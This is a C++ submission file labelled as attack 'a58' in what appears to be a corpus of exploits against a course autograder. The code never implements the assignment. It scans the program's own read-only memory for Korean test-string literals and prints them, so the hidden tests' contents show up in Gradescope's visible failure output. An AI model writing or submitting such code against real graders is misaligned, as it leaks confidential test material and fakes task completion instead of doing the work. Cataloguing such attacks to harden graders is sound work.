// ATTACK a58 (the independent corpus's r06): the untouched stub plus a scan of the process's own
// read-only data, where the tests' string literals live, printing every Korean string found.
// The public test's failure message shows printed lines, so whatever hidden-test text is in the
// binary would reach the handout page and Gradescope's visible output before publication.
// The scan walks backwards from the student's own literal (the student's objects are linked
// last) down to the student's own code, reading only the binary's mapped image.
#include "api.hpp"

#include <set>

namespace {

const char kMine[] = "MARKER-a58-mine";
__attribute__((noinline)) void anchor() { asm volatile(""); }

bool has_hangul(const unsigned char* p, std::size_t n) {
    for (std::size_t i = 0; i + 2 < n; ++i)
        if (p[i] >= 0xea && p[i] <= 0xed && (p[i + 1] & 0xc0) == 0x80) return true;
    return false;
}

void scan() {
    const auto* lo = reinterpret_cast<const unsigned char*>(reinterpret_cast<void*>(&anchor));
    const auto* hi = reinterpret_cast<const unsigned char*>(kMine);
    if (hi <= lo || hi - lo > (64 << 20)) {
        aio::print("layout {} {}", static_cast<const void*>(lo), static_cast<const void*>(hi));
        return;
    }
    std::set<std::string> seen;
    int printed = 0;
    const unsigned char* p = hi;
    while (p > lo && printed < 600) {
        const unsigned char* end = p - 1;  // the NUL that ends an earlier string
        while (end > lo && *end != 0) --end;
        const unsigned char* begin = end - 1;
        while (begin > lo && *begin >= 0x20) --begin;
        ++begin;
        const auto len = static_cast<std::size_t>(end - begin);
        if (len >= 3 && len < 160 && has_hangul(begin, len)) {
            std::string s(reinterpret_cast<const char*>(begin), len);
            if (seen.insert(s).second) aio::print("FOUND: {}", s), ++printed;
        }
        p = begin < end ? begin : end;
    }
}

}  // namespace

aio::task<std::string> hello_async([[maybe_unused]] std::string result) {
    static bool once = false;
    if (!once) once = true, scan();
    co_return "";
}
